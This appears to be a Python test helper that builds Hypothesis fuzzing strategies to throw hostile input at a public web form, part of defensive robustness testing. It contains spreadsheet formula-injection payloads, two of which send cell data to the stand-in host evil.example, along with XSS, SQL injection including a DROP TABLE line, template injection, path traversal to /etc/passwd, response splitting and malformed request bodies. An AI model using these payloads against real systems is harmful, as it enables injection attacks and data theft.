"""Hostile input for the fuzz battery: what a bot, a broken spreadsheet or an attacker sends to a public form."""

from __future__ import annotations

from hypothesis import strategies as st

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]
TRICKY = [
    "",
    " ",
    "0",
    "-1",
    "1e309",
    "NaN",
    "-Infinity",
    "99999999999999999999999999999999",
    "0.000000000000000000000001",
    "1,5",
    "2026-02-30",
    "2026-13-01",
    "0000-00-00",
    "9999-12-31",
    "on",
    "true",
    "None",
    "null",
    "[]",
    "{}",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "'; DROP TABLE members_organization; --",
    "%s%s%s%n",
    "{{ 7*7 }}",
    "{% debug %}",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    "\ufeff",
    "\u200b",
    "\x00",
    "\x00" * 10,
    "\r\n\r\nHTTP/1.1 200 OK",
    "a\x00b",
    "КАЗАХСТАН Қазақстан",
    "😀" * 50,
    "\U0010ffff",
    "+7 701 123 45 67",
    "7701123456789012345678901234567890",
    "000000000000",
    "123456789012",
]
CONTROL = "".join(chr(c) for c in range(32)) + "\x7f\x85\u2028\u2029\u200b\u200e\u202e\ufeff\ufffe"

# Any code point but surrogates (the client cannot encode those; broken encodings are sent as raw bytes instead).
any_text = st.text(alphabet=st.characters(blacklist_categories=["Cs"]), max_size=80)
control_text = st.text(alphabet=st.sampled_from(CONTROL), min_size=1, max_size=20)
huge_text = st.builds(
    lambda piece, times: (piece or "x") * times,
    st.sampled_from(["x", "Ж", "😀", "=", "\x00", "a,b", '"', "\n"]),
    st.sampled_from([300, 5_000, 70_000, 300_000]),
)
latin1_garbage = st.binary(max_size=60).map(lambda raw: raw.decode("latin-1"))

hostile_text = st.one_of(
    any_text,
    control_text,
    st.sampled_from(FORMULAS),
    st.sampled_from(TRICKY),
    huge_text,
    latin1_garbage,
    st.integers().map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.builds(lambda a, b: a + b, st.sampled_from(TRICKY + FORMULAS), any_text),
)
# A wrong type in a form post: a list (the key repeated), an empty list.
hostile_value = st.one_of(hostile_text, st.lists(hostile_text, max_size=3))


@st.composite
def mutated(draw, base: dict) -> dict:
    """A valid payload with some fields replaced by hostile values, some dropped and some unknown ones added."""
    data = dict(base)
    keys = list(base)
    for key in draw(st.lists(st.sampled_from(keys), unique=True, max_size=len(keys))):
        data[key] = draw(hostile_value)
    for key in draw(st.lists(st.sampled_from(keys), unique=True, max_size=3)):
        data.pop(key, None)
    extra = draw(
        st.dictionaries(
            st.one_of(st.sampled_from(["id", "pk", "status", "is_staff", "_extra"]), any_text),
            hostile_value,
            max_size=3,
        )
    )
    for key, value in extra.items():
        if key and "\x00" not in key:
            data.setdefault(key, value)
    return data


@st.composite
def raw_bodies(draw) -> tuple[bytes, str]:
    """A raw request body the browser never sends: broken UTF-8, a bad multipart boundary, random bytes."""
    kind = draw(st.sampled_from(["urlencoded", "multipart", "json", "text"]))
    body = draw(
        st.one_of(
            st.binary(max_size=400),
            st.sampled_from([b"a=%ff%fe%00&b=\xc3\x28", b"\xff\xfe\x00n\x00a\x00m\x00e", b"=" * 1000, b"&" * 500]),
            st.builds(lambda k, v: k + b"=" + v, st.binary(max_size=30), st.binary(max_size=200)),
        )
    )
    content_type = {
        "urlencoded": "application/x-www-form-urlencoded; charset=" + draw(st.sampled_from(["utf-8", "latin-1", "x"])),
        "multipart": "multipart/form-data; boundary=" + draw(st.sampled_from(["BoUnDaRy", "", "\x00", "a" * 100])),
        "json": "application/json",
        "text": "text/plain",
    }[kind]
    if kind == "multipart" and draw(st.booleans()):
        head = b'--BoUnDaRy\r\nContent-Disposition: form-data; name="' + body[:40] + b'"\r\n\r\n'
        body = head + body + b"\r\n--BoUnDaRy--\r\n"
    return body, content_type
